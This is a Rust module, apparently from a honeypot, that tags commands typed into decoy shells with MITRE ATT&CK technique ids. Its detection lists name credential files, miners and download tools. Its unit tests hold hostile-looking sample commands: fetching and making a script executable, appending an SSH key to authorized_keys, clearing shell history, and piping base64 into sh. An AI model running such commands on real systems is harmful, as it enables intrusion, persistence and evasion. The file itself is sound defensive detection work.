//! ATT&CK techniques named from the shell commands attackers typed into the decoys. A small static
//! map from command classes (the program run, or a path the command touches) to canonical
//! Enterprise ATT&CK technique ids; `docs/export.md` lists it. What a command line's words show is
//! all it claims: every command typed into a decoy shell is Unix Shell (T1059.004), a download tool
//! is Ingress Tool Transfer (T1105), and so on. Commands are read up to [`MAX_COMMAND_BYTES`].

use std::collections::{BTreeMap, BTreeSet};

use chrono::{DateTime, Utc};

use crate::db::AttackerCommand;
use crate::text::prefix_bytes;

/// Longer command text is read up to here: no class needs more, and it bounds the work.
const MAX_COMMAND_BYTES: usize = 8 * 1024;

/// One Enterprise ATT&CK technique.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Technique {
    /// The canonical id, `T1105` or `T1059.004`.
    pub id: &'static str,
    pub name: &'static str,
    /// The ATT&CK tactic's short name (a kill-chain phase of `mitre-attack`).
    pub tactic: &'static str,
}

impl Technique {
    pub fn url(&self) -> String {
        format!("https://attack.mitre.org/techniques/{}/", self.id.replace('.', "/"))
    }

    /// The technique a sub-technique belongs to, by id and name (`None` for a technique).
    pub fn parent(&self) -> Option<(&'static str, &'static str)> {
        let (parent, _) = self.id.split_once('.')?;
        PARENTS.iter().find(|(id, _)| *id == parent).copied()
    }
}

/// The techniques of the sub-techniques below, by ATT&CK's names.
const PARENTS: &[(&str, &str)] = &[
    ("T1003", "OS Credential Dumping"),
    ("T1053", "Scheduled Task/Job"),
    ("T1059", "Command and Scripting Interpreter"),
    ("T1070", "Indicator Removal"),
    ("T1087", "Account Discovery"),
    ("T1098", "Account Manipulation"),
    ("T1136", "Create Account"),
    ("T1222", "File and Directory Permissions Modification"),
    ("T1562", "Impair Defenses"),
];

const fn technique(id: &'static str, name: &'static str, tactic: &'static str) -> Technique {
    Technique { id, name, tactic }
}

pub const UNIX_SHELL: Technique = technique("T1059.004", "Unix Shell", "execution");
pub const PYTHON: Technique = technique("T1059.006", "Python", "execution");
pub const INGRESS_TOOL_TRANSFER: Technique = technique("T1105", "Ingress Tool Transfer", "command-and-control");
pub const SYSTEM_INFORMATION: Technique = technique("T1082", "System Information Discovery", "discovery");
pub const OWNER_DISCOVERY: Technique = technique("T1033", "System Owner/User Discovery", "discovery");
pub const NETWORK_CONFIGURATION: Technique = technique("T1016", "System Network Configuration Discovery", "discovery");
pub const NETWORK_CONNECTIONS: Technique = technique("T1049", "System Network Connections Discovery", "discovery");
pub const PROCESS_DISCOVERY: Technique = technique("T1057", "Process Discovery", "discovery");
pub const FILE_DISCOVERY: Technique = technique("T1083", "File and Directory Discovery", "discovery");
pub const LOCAL_ACCOUNTS: Technique = technique("T1087.001", "Local Account", "discovery");
pub const SHADOW_FILE: Technique = technique("T1003.008", "/etc/passwd and /etc/shadow", "credential-access");
pub const NETWORK_SERVICE_DISCOVERY: Technique = technique("T1046", "Network Service Discovery", "discovery");
pub const CRON: Technique = technique("T1053.003", "Cron", "persistence");
pub const PERMISSIONS: Technique =
    technique("T1222.002", "Linux and Mac File and Directory Permissions Modification", "defense-evasion");
pub const LOCAL_ACCOUNT_CREATED: Technique = technique("T1136.001", "Local Account", "persistence");
pub const ACCOUNT_MANIPULATION: Technique = technique("T1098", "Account Manipulation", "persistence");
pub const SSH_AUTHORIZED_KEYS: Technique = technique("T1098.004", "SSH Authorized Keys", "persistence");
pub const CLEAR_HISTORY: Technique = technique("T1070.003", "Clear Command History", "defense-evasion");
pub const FILE_DELETION: Technique = technique("T1070.004", "File Deletion", "defense-evasion");
pub const DECODE: Technique = technique("T1140", "Deobfuscate/Decode Files or Information", "defense-evasion");
pub const RESOURCE_HIJACKING: Technique = technique("T1496", "Resource Hijacking", "impact");
pub const FIREWALL: Technique = technique("T1562.004", "Disable or Modify System Firewall", "defense-evasion");

/// Program (basename) → technique.
const PROGRAMS: &[(&[&str], Technique)] = &[
    (&["wget", "curl", "tftp", "ftpget", "scp", "sftp", "rsync", "lwp-download"], INGRESS_TOOL_TRANSFER),
    (
        &["uname", "hostname", "hostnamectl", "lscpu", "nproc", "free", "df", "uptime", "lsb_release", "dmidecode"],
        SYSTEM_INFORMATION,
    ),
    (&["whoami", "id", "w", "who", "last", "users"], OWNER_DISCOVERY),
    (&["ifconfig", "ip", "route", "arp", "iwconfig"], NETWORK_CONFIGURATION),
    (&["netstat", "ss", "lsof"], NETWORK_CONNECTIONS),
    (&["ps", "top", "htop", "pgrep"], PROCESS_DISCOVERY),
    (&["ls", "find", "locate", "tree", "du", "stat"], FILE_DISCOVERY),
    (&["getent", "lastlog"], LOCAL_ACCOUNTS),
    (&["nmap", "masscan", "zmap"], NETWORK_SERVICE_DISCOVERY),
    (&["crontab"], CRON),
    (&["chmod", "chown", "chattr"], PERMISSIONS),
    (&["useradd", "adduser"], LOCAL_ACCOUNT_CREATED),
    (&["passwd", "chpasswd", "usermod"], ACCOUNT_MANIPULATION),
    (&["rm", "shred", "unlink", "srm", "wipe"], FILE_DELETION),
    (&["xmrig", "minerd", "cpuminer", "xmr-stak"], RESOURCE_HIJACKING),
    (&["iptables", "ip6tables", "ufw", "firewall-cmd", "nft"], FIREWALL),
    (&["python", "python2", "python3"], PYTHON),
];

/// A path or word anywhere in the command → technique.
const MENTIONS: &[(&str, Technique)] = &[
    ("/etc/passwd", LOCAL_ACCOUNTS),
    ("/etc/shadow", SHADOW_FILE),
    ("/proc/cpuinfo", SYSTEM_INFORMATION),
    ("/etc/os-release", SYSTEM_INFORMATION),
    ("/proc/version", SYSTEM_INFORMATION),
    ("authorized_keys", SSH_AUTHORIZED_KEYS),
    ("/etc/cron", CRON),
    ("stratum+tcp://", RESOURCE_HIJACKING),
    ("HISTFILE", CLEAR_HISTORY),
    (".bash_history", CLEAR_HISTORY),
];

/// Words that run the next word as the program.
const WRAPPERS: &[&str] = &["sudo", "doas", "nohup", "nice", "time", "timeout", "exec", "command", "busybox", "env"];

/// Every technique one command line shows, by id.
pub fn techniques_of(command: &str) -> BTreeSet<Technique> {
    let command = prefix_bytes(command, MAX_COMMAND_BYTES);
    let mut found = BTreeSet::new();
    if command.trim().is_empty() {
        return found;
    }
    found.insert(UNIX_SHELL);
    for segment in command.split([';', '|', '&', '\n', '(', ')', '`']) {
        let words: Vec<&str> = segment.split_whitespace().collect();
        let Some(at) = words.iter().position(|w| !w.contains('=') && !WRAPPERS.contains(w) && !w.starts_with('-'))
        else {
            continue;
        };
        let program = words[at].rsplit('/').next().unwrap_or(words[at]);
        let args = &words[at + 1..];
        if let Some((_, technique)) = PROGRAMS.iter().find(|(programs, _)| programs.contains(&program)) {
            found.insert(*technique);
        }
        match program {
            "history" if args.iter().any(|a| a.starts_with('-') && a.contains('c')) => {
                found.insert(CLEAR_HISTORY);
            }
            "base64" if args.iter().any(|a| *a == "-d" || *a == "--decode") => {
                found.insert(DECODE);
            }
            _ => {}
        }
    }
    for (needle, technique) in MENTIONS {
        if command.contains(needle) {
            found.insert(*technique);
        }
    }
    found
}

/// How often, and when first and last, one technique showed in an attacker's commands.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Seen {
    pub technique: Technique,
    /// Commands that showed it.
    pub count: u64,
    pub first: DateTime<Utc>,
    pub last: DateTime<Utc>,
}

/// Each technique `commands` show, in technique order.
pub fn seen_in(commands: &[AttackerCommand]) -> Vec<Seen> {
    let mut seen: BTreeMap<Technique, Seen> = BTreeMap::new();
    for command in commands {
        for technique in techniques_of(&command.command) {
            let at = command.timestamp;
            let entry = seen.entry(technique).or_insert(Seen { technique, count: 0, first: at, last: at });
            entry.count += 1;
            entry.first = entry.first.min(at);
            entry.last = entry.last.max(at);
        }
    }
    seen.into_values().collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_are_rolled_up_per_technique_and_sub_techniques_name_their_parent() {
        let at = |minute: u32| chrono::TimeZone::with_ymd_and_hms(&Utc, 2026, 11, 28, 10, minute, 0).unwrap();
        let command = |text: &str, minute| AttackerCommand {
            log_id: i64::from(minute),
            timestamp: at(minute),
            service: "ssh".into(),
            decky: "d".into(),
            command: text.into(),
        };
        let seen = seen_in(&[command("wget http://x", 5), command("uname -a", 1), command("curl -O http://y", 9)]);
        let shell = seen.iter().find(|s| s.technique == UNIX_SHELL).unwrap();
        assert_eq!((shell.count, shell.first, shell.last), (3, at(1), at(9)));
        let transfer = seen.iter().find(|s| s.technique == INGRESS_TOOL_TRANSFER).unwrap();
        assert_eq!((transfer.count, transfer.first, transfer.last), (2, at(5), at(9)));
        assert_eq!(UNIX_SHELL.parent(), Some(("T1059", "Command and Scripting Interpreter")));
        assert_eq!(INGRESS_TOOL_TRANSFER.parent(), None);
        for sub in [PYTHON, SHADOW_FILE, CRON, PERMISSIONS, LOCAL_ACCOUNT_CREATED, SSH_AUTHORIZED_KEYS, CLEAR_HISTORY]
            .into_iter()
            .chain([FILE_DELETION, LOCAL_ACCOUNTS, FIREWALL])
        {
            assert!(sub.parent().is_some(), "{} has no parent", sub.id);
        }
    }

    fn ids(command: &str) -> Vec<&'static str> {
        techniques_of(command).into_iter().map(|t| t.id).collect::<BTreeSet<_>>().into_iter().collect()
    }

    #[test]
    fn commands_name_their_techniques() {
        assert_eq!(ids("uname -a; id"), ["T1033", "T1059.004", "T1082"]);
        assert_eq!(ids("cd /tmp && wget http://x/y.sh && chmod +x y.sh"), ["T1059.004", "T1105", "T1222.002"]);
        assert_eq!(ids("sudo /usr/bin/curl -O http://x"), ["T1059.004", "T1105"]);
        assert_eq!(ids("cat /etc/passwd | grep root"), ["T1059.004", "T1087.001"]);
        assert_eq!(ids("echo ssh-rsa AAA >> ~/.ssh/authorized_keys"), ["T1059.004", "T1098.004"]);
        assert_eq!(ids("history -c; unset HISTFILE"), ["T1059.004", "T1070.003"]);
        assert_eq!(ids("echo aGk= | base64 -d | sh"), ["T1059.004", "T1140"]);
        assert!(ids("").is_empty());
    }

    #[test]
    fn hostile_text_is_read_without_panicking() {
        for text in ["|||;;;&&&", "\u{0}\u{ffff}", &"a ".repeat(100_000), "é".repeat(5000).as_str()] {
            let _ = techniques_of(text);
        }
    }
}
